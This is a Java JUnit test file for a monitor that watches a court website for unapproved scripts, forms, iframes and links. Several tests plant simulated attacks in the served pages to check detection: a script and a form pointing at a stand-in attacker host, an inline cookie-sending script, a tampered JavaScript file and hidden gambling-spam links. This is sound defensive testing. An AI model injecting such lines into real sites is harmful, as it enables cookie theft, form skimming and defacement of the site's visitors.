package id.jagasitus.patrol;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpExchange;
import id.jagasitus.event.Severity;
import id.jagasitus.event.Signal;
import id.jagasitus.integrity.Outgoing;
import id.jagasitus.integrity.Publishing;
import id.jagasitus.integrity.ServedTie;
import id.jagasitus.journal.Journal;
import id.jagasitus.watch.Hosts;
import id.jagasitus.watch.PageFetch;
import id.jagasitus.watch.Tie;
import id.jagasitus.watch.Tie.Kind;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A site out of a database beside us, on a server of its own: no file tells what it serves. Its
 * home page has a key of its own in every answer, as such sites do.
 */
final class TieWatchTest {

  private static final Hosts HOSTS = new Hosts("127.0.0.1", Set.of());
  private static final String STRANGER = "<script src='https://jahat.example/x.js'></script>";

  @TempDir Path folder;
  private final Map<String, String> pages = new ConcurrentHashMap<>();
  private final AtomicInteger key = new AtomicInteger(1_000);
  private volatile boolean broken;
  private Instant now = Instant.parse("2026-11-22T03:00:00Z");
  private Optional<Set<Tie>> files = Optional.of(Set.of());
  private TestServer server;
  private Journal journal;
  private Outgoing outgoing;
  private Publishing publishing;
  private ServedPatrol patrol;

  @BeforeEach
  void start() throws IOException {
    pages.put("/", home(""));
    pages.put("/a.html", "<title>A</title><p>Pengumuman</p>");
    pages.put("/js/menu.js", "menu(1);");
    server = new TestServer(this::answer);
    open();
  }

  private void open() throws IOException {
    journal = Journal.open(folder.resolve("journal"), () -> now);
    outgoing = Outgoing.open(folder.resolve("outgoing"), journal);
    outgoing.coveredBy(() -> files);
    publishing = new Publishing(journal);
    journal.follow(publishing::fold);
    var site = server.home();
    patrol =
        new ServedPatrol(
            () -> Optional.of(site),
            () -> HOSTS,
            () -> new PageFetch(TestServer.guard(), Duration.ofSeconds(20)),
            () -> {},
            new ServedPages(new Random(1)),
            new TieWatch(outgoing, publishing, () -> HOSTS),
            () -> now,
            () -> TestSite.ZONE);
  }

  @AfterEach
  void stop() throws IOException {
    server.close();
    journal.close();
  }

  private static String home(String more) {
    return "<title>Pengadilan</title><p>Melayani pencari keadilan</p><a href='/a.html'>A</a><a"
        + " href='https://www.youtube.com/pn'>Video</a><script>kunci={\"nonce\":\"KEY\"}</script>"
        + "<script src='/js/menu.js?v=1'></script>"
        + more;
  }

  private void answer(HttpExchange exchange) throws IOException {
    String page = pages.get(exchange.getRequestURI().getPath());
    String text = page == null ? "tidak ada" : page.replace("KEY", "f0" + key.getAndIncrement());
    byte[] body = text.getBytes(StandardCharsets.UTF_8);
    exchange.sendResponseHeaders(broken ? 503 : page == null ? 404 : 200, body.length);
    try (var out = exchange.getResponseBody()) {
      out.write(body);
    }
  }

  /** What one round tells of these; what the scanner says of a page is its own. */
  private List<Signal> look() throws Exception {
    now = now.plus(Duration.ofMinutes(10));
    return patrol.look().stream()
        .filter(signal -> signal.intent().equals(TieSignals.INTENT))
        .toList();
  }

  private List<Tie> waiting() {
    return outgoing.view().waiting().stream().map(ServedTie::tie).toList();
  }

  private void approveAll() throws IOException {
    outgoing.approveAll("budi", "", now);
  }

  @Test
  void look_first_asksForAllOfItOnceAndTellsNothing() throws Exception {
    assertEquals(List.of(), look());
    assertEquals(List.of(), look());
    assertEquals(List.of(), waiting());
    assertEquals(
        List.of(Kind.FILE, Kind.INLINE, Kind.LINK),
        outgoing.view().first().stream().map(one -> one.tie().kind()).toList());
    approveAll();
    assertEquals(List.of(), outgoing.view().undecided());
    assertEquals(3, outgoing.view().accepted().size());
    assertEquals("budi", outgoing.view().by());
  }

  @Test
  void look_keyInEveryAnswer_isQuietForEver() throws Exception {
    look();
    approveAll();
    for (int round = 0; round < 6; round++) {
      assertEquals(List.of(), look());
    }
    assertEquals(List.of(), outgoing.view().undecided());
  }

  @Test
  void look_strangerOnAKnownPage_isOneSignalAndWaits() throws Exception {
    look();
    approveAll();
    pages.put("/", home(STRANGER + "<form action='https://jahat.example/kirim'></form>"));
    List<Signal> signals = look();
    assertEquals(
        List.of("served-script", "served-form"), signals.stream().map(Signal::rule).toList());
    Signal script = signals.getFirst();
    assertEquals(Severity.REVIEW, script.severity());
    assertEquals(TieSignals.INTENT, script.intent());
    assertEquals("jahat.example/x.js", script.facts().get("seen"));
    assertEquals("/", script.facts().get("places"));
    assertFalse(script.succeeded());
    assertEquals(List.of(), look(), "told once");
    assertTrue(waiting().contains(new Tie(Kind.SCRIPT, "jahat.example/x.js")));
  }

  @Test
  void look_beforeAnybodyApproved_tellsWhatCame() throws Exception {
    look();
    pages.put("/", home(STRANGER));
    assertEquals("served-script", look().getFirst().rule());
  }

  @Test
  void look_newScriptInThePage_isToldWithHowItBegins() throws Exception {
    look();
    approveAll();
    pages.put("/", home("<script>kirim(document.cookie)</script>"));
    Signal signal = look().getFirst();
    assertEquals("served-inline", signal.rule());
    assertEquals("kirim(document.cookie)", signal.facts().get("seen"));
  }

  @Test
  void look_scriptOfTheSiteWithOtherText_isTold() throws Exception {
    look();
    approveAll();
    pages.put("/js/menu.js", "menu(1);muat('https://jahat.example/')");
    assertEquals(List.of(), look(), "asked for once an hour");
    now = now.plus(Duration.ofHours(1));
    Signal signal = look().getFirst();
    assertEquals("served-file", signal.rule());
    assertEquals("/js/menu.js", signal.facts().get("places"));
    pages.put("/js/menu.js", "menu(2);");
    now = now.plus(Duration.ofHours(1));
    look();
    assertEquals(List.of(), waiting(), "it is as approved again");
  }

  @Test
  void look_oneMoreLink_waitsQuietly() throws Exception {
    look();
    approveAll();
    pages.put("/", home("<a href='https://koran.example/berita'>Berita</a>"));
    assertEquals(List.of(), look());
    assertEquals(List.of(new Tie(Kind.LINK, "koran.example")), waiting());
    assertEquals(0, outgoing.view().urgent());
  }

  @Test
  void look_gone_waitsNoMore() throws Exception {
    look();
    approveAll();
    pages.put("/", home(STRANGER));
    look();
    pages.put("/", home(""));
    look();
    assertEquals(List.of(), waiting());
    pages.put("/", home(STRANGER));
    assertEquals(1, look().size(), "told again when it is back");
  }

  @Test
  void look_faultPage_saysNothingOfThePage() throws Exception {
    look();
    approveAll();
    broken = true;
    pages.put("/", STRANGER);
    assertEquals(List.of(), look());
    assertEquals(List.of(), outgoing.view().gone());
    assertEquals(3, outgoing.view().accepted().size());
  }

  @Test
  void look_filesNotLookedAtYet_judgesNothing() throws Exception {
    files = Optional.empty();
    look();
    assertEquals(0, outgoing.view().pages());
  }

  @Test
  void look_whatApprovedFilesHold_needsNoApproval() throws Exception {
    files = Optional.of(Set.of(new Tie(Kind.SCRIPT, "jahat.example/x.js")));
    look();
    approveAll();
    pages.put("/", home(STRANGER));
    assertEquals(List.of(), look());
    assertEquals(List.of(), waiting());
    files = Optional.of(Set.of());
    assertEquals(
        List.of(new Tie(Kind.SCRIPT, "jahat.example/x.js")),
        waiting(),
        "the files hold it no more, the server shows it still");
  }

  @Test
  void look_window_approvesWhatCame() throws Exception {
    look();
    approveAll();
    publishing.begin("budi", "", now, Duration.ofMinutes(30));
    pages.put("/", home(STRANGER));
    assertEquals(List.of(), look());
    assertEquals(List.of(), waiting());
    pages.put("/", home(STRANGER + "<form action='https://lain.example/'></form>"));
    now = now.plus(Duration.ofMinutes(1));
    publishing.end("budi", "", now);
    assertEquals(List.of(), look(), "the first look after the window still belongs to it");
    pages.put("/", home("<iframe src='https://lagi.example/'></iframe>"));
    assertEquals(1, look().size());
  }

  @Test
  void look_harm_isCriticalAndNotApprovedByAWindow() throws Exception {
    look();
    approveAll();
    publishing.begin("budi", "", now, Duration.ofMinutes(30));
    pages.put(
        "/",
        home(
            "<div style='display:none'><a href='https://naga303.example/'>slot gacor maxwin</a>"
                + "<iframe src='https://naga303.example/'></iframe></div>"));
    assertEquals(List.of(), look(), "the scanner tells of it already");
    assertEquals(Severity.CRITICAL, outgoing.view().waiting().getFirst().severity());
  }

  @Test
  void open_afterRestart_knowsWhatWasApprovedAndWhatWaits() throws Exception {
    look();
    approveAll();
    pages.put("/", home(STRANGER));
    look();
    List<ServedTie> before = outgoing.view().waiting();
    journal.close();
    open();
    assertEquals(before, outgoing.view().waiting());
    assertEquals("budi", outgoing.view().by());
    assertEquals(List.of(), look());
    outgoing.approve(outgoing.view().waiting(), "budi", "", now);
    assertEquals(List.of(), outgoing.view().undecided());
  }
}
